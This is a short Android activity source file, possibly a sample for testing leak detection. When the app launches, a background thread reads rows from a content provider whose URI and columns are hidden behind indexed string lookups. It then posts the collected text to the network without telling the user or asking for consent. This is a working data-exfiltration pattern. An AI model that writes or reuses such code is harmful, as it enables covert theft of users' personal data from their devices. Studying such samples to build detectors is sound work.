package com.example.nativeuri;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts what a provider has. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> Net.post(readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        String[] columns = {Texts.get(3), Texts.get(4)};
        Cursor cursor = getContentResolver().query(Uri.parse(Texts.get(2)), columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
